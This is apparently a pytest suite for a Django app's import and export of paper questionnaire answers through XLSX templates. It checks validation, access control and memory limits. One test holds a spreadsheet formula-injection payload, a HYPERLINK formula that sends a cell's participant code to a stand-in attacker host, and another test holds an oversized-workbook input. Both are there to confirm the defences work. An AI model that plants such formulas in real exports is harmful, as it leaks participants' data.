"""Paper answers from a spreadsheet: the XLSX template per questionnaire and unit, and its import."""

import io
import json
import re
import tracemalloc
import zipfile
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from conftest import World, signed_in
from pilotti.audit.models import AccessLog, Action
from pilotti.instruments import selectors as instruments
from pilotti.instruments.models import Instrument, InstrumentVersion, Mode, Response
from pilotti.meetings.models import Meeting
from pilotti.people.models import Participant
from pilotti.programmes.models import DeliveryUnit
from pilotti.surveys import paper_import
from pilotti.surveys.paper_import import ANSWERS_SHEET, KEY_SHEET
from tests.factories import enrol, library_file, library_version, make_instrument, make_participant


@pytest.fixture
def who5() -> InstrumentVersion:
    return library_version("who-5")


@pytest.fixture
def second(world: World, group: tuple[DeliveryUnit, Meeting]) -> Participant:
    participant = make_participant(world.org, name="Toinen Osallistuja")
    enrol(participant, group[0])
    return participant


def download(client: Client, unit: DeliveryUnit, version: InstrumentVersion) -> bytes:
    response = client.get(reverse("paper_import:template", args=[unit.uuid]), {"version": str(version.uuid)})
    assert response.status_code == 200, response.content
    return response.content


def filled(template: bytes, rows: dict[str, list[object]]) -> bytes:
    """The template with the given answers typed in on each code's row: [answered_on, language, items…]."""
    workbook = load_workbook(io.BytesIO(template))
    sheet = workbook["answers"]
    for row in sheet.iter_rows(min_row=3):
        if row[0].value in rows:
            for cell, value in zip(row[1:], rows[row[0].value], strict=False):
                cell.value = value
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(client: Client, unit: DeliveryUnit, version: InstrumentVersion, content: bytes, name: str = "a.xlsx"):  # type: ignore[no-untyped-def]
    url = reverse("paper_import:page", args=[unit.uuid]) + f"?version={version.uuid}"
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def test_it_gives_a_template_with_the_units_codes_and_the_allowed_values(
    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant, second: Participant, who5: InstrumentVersion
) -> None:
    client = signed_in(world.facilitator)
    page = client.get(reverse("paper_import:page", args=[group[0].uuid]))
    assert page.status_code == 200
    assert "WHO-5" in page.text
    workbook = load_workbook(io.BytesIO(download(client, group[0], who5)))
    assert workbook.sheetnames == ["answers", "instructions", "pilotti"]
    sheet = workbook["answers"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("code", "answered_on", "language", "q1", "q2", "q3", "q4", "q5")
    assert "one of 5 = " in rows[1][3]
    assert sorted(row[0] for row in rows[2:]) == sorted([person.code, second.code])
    # Excel offers the options as a list in every item column.
    lists = [v.formula1 for v in sheet.data_validations.dataValidation if v.type == "list"]
    assert '"5,4,3,2,1,0"' in lists
    guide = [row[0] for row in workbook["instructions"].iter_rows(values_only=True)]
    assert "Example" in guide
    assert workbook["pilotti"].sheet_state == "hidden"
    # The codes left the system: each person's log says so.
    assert AccessLog.objects.filter(participant=person, action=Action.EXPORT, user=world.facilitator).exists()


def test_it_saves_every_filled_row_as_a_paper_answer(
    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant, second: Participant, who5: InstrumentVersion
) -> None:
    client = signed_in(world.facilitator)
    content = filled(download(client, group[0], who5), {person.code: [date(2025, 3, 1), "en", 5, 4, 3, 2, 1]})
    response = upload(client, group[0], who5, content)
    assert response.status_code == 302
    assert "1 paper form was saved." in [m.message for m in client.get(response["Location"]).context["messages"]]
    stored = Response.objects.get(participant=person)
    assert stored.mode == Mode.PAPER
    assert stored.entered_by == world.facilitator
    assert stored.total == 60
    assert stored.submitted_at is not None
    assert stored.submitted_at.date() == date(2025, 3, 1)
    # The row left empty (no form from that person) saves nothing.
    assert not Response.objects.filter(participant=second).exists()
    assert AccessLog.objects.filter(participant=person, action=Action.CHANGE, user=world.facilitator).exists()


def test_it_saves_nothing_and_names_each_row_and_item_when_any_row_is_wrong(
    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant, second: Participant, who5: InstrumentVersion
) -> None:
    client = signed_in(world.coordinator)
    template = download(client, group[0], who5)
    codes = [row[0] for row in load_workbook(io.BytesIO(template))["answers"].iter_rows(min_row=3, values_only=True)]
    bad_row = 3 + codes.index(second.code)
    content = filled(
        template,
        {
            person.code: [date(2025, 3, 1), "en", 5, 4, 3, 2, 1],
            second.code: ["31.3.2025", "xx", 5, 4, "x", 9, None],
        },
    )
    response = upload(client, group[0], who5, content)
    assert response.status_code == 400
    problems = response.context["problems"]
    assert f"row {bad_row}, item 3 (q3): 'x' is not one of 5, 4, 3, 2, 1, 0" in problems
    assert f"row {bad_row}, item 4 (q4): '9' is not one of 5, 4, 3, 2, 1, 0" in problems
    assert f"row {bad_row}, answered_on: '31.3.2025' is not a date such as 2025-03-31, today or earlier" in problems
    assert f"row {bad_row}, language: 'xx' is not one of en" in problems
    assert len(problems) == 4
    assert not Response.objects.exists()


def test_it_refuses_codes_not_in_the_unit_and_the_same_person_twice(
    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant, who5: InstrumentVersion
) -> None:
    client = signed_in(world.coordinator)
    workbook = load_workbook(io.BytesIO(download(client, group[0], who5)))
    sheet = workbook["answers"]
    sheet.append([person.code, date(2025, 3, 1), "en", 1, 1, 1, 1, 1])
    sheet.append(["NOT-A-CODE", date(2025, 3, 1), "en", 1, 1, 1, 1, 1])
    sheet.cell(row=3, column=2, value=date(2025, 3, 1))
    out = io.BytesIO()
    workbook.save(out)
    problems = upload(client, group[0], who5, out.getvalue()).context["problems"]
    assert "row 4: " + person.code + " is already on row 3" in problems
    assert "row 5: 'NOT-A-CODE' is not the code of a participant of this unit" in problems
    assert not Response.objects.exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"code;answered_on\nABC;2025-03-01\n", "This is not an Excel workbook (.xlsx)."),
        (b"PK\x03\x04 not really a zip", "The workbook cannot be read."),
        (b"PK\x03\x04" + b"0" * (2 * 1024 * 1024), "The file is larger than 2.0\xa0MB."),
    ],
)
def test_it_rejects_files_that_are_not_its_template(
    world: World,
    group: tuple[DeliveryUnit, Meeting],
    person: Participant,
    who5: InstrumentVersion,
    content: bytes,
    message: str,
) -> None:
    response = upload(signed_in(world.coordinator), group[0], who5, content)
    assert response.status_code == 400
    assert message in response.text
    assert not Response.objects.exists()


def test_it_rejects_a_template_of_another_questionnaire(
    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant, who5: InstrumentVersion
) -> None:
    client = signed_in(world.coordinator)
    other = library_version("gad-7")
    content = download(client, group[0], other)
    response = upload(client, group[0], who5, content)
    assert "This template is for another questionnaire, version or unit." in response.text


def test_it_keeps_the_unit_from_outsiders_and_evaluators(
    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant, who5: InstrumentVersion
) -> None:
    url = reverse("paper_import:template", args=[group[0].uuid])
    assert signed_in(world.outsider).get(url, {"version": str(who5.uuid)}).status_code == 404
    assert signed_in(world.evaluator).get(url, {"version": str(who5.uuid)}).status_code in {403, 404}


def test_it_gives_an_instrument_example_that_imports_as_it_is(world: World) -> None:
    client = signed_in(world.coordinator)
    example = client.get(reverse("paper_import:instrument_example"))
    assert example.status_code == 200
    assert json.loads(example.content)["key"] == "example-usefulness"
    assert "example.json" in client.get(reverse("instruments:import")).text
    response = client.post(reverse("instruments:import"), {"file": SimpleUploadedFile("example.json", example.content)})
    assert response.status_code == 302
    assert Instrument.objects.filter(organisation=world.org, key="example-usefulness").exists()


def test_it_writes_an_instrument_text_starting_with_equals_as_text_not_a_formula(
    world: World, group: tuple[DeliveryUnit, Meeting], person: Participant
) -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A3, "Ohje")'
    items = library_file("who-5")["items"]
    items[0]["text"] = {"en": attack}
    version = instruments.current_version(make_instrument(world.org, key="who-5", items=items))
    content = download(signed_in(world.facilitator), group[0], version)
    workbook = load_workbook(io.BytesIO(content))
    cell = workbook["answers"]["D2"]
    assert cell.value.startswith(attack)
    assert cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


def test_it_reads_a_sheet_declaring_thousands_of_columns_in_bounded_memory() -> None:
    workbook = Workbook()
    workbook.active.title = ANSWERS_SHEET
    workbook.create_sheet(KEY_SHEET)
    out = io.BytesIO()
    workbook.save(out)
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>X</t></is></c></row>' for n in range(1, 1501))
    wide = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(out.getvalue())) as source,
        zipfile.ZipFile(wide, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb"<dimension [^>]*/>", b'<dimension ref="A1:XFD1500"/>', data)
                data = re.sub(
                    rb"<sheetData\s*/>|<sheetData>.*</sheetData>", f"<sheetData>{rows}</sheetData>".encode(), data
                )
            target.writestr(item, data)
    tracemalloc.start()
    try:
        _key, read = paper_import.read_rows(wide.getvalue())
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(read) == 1500
    assert {len(row) for row in read} == {paper_import.MAX_COLUMNS}
    # Padded to the declared 16 384 columns the rows took about 200 MB.
    assert peak < 20 * 1024 * 1024
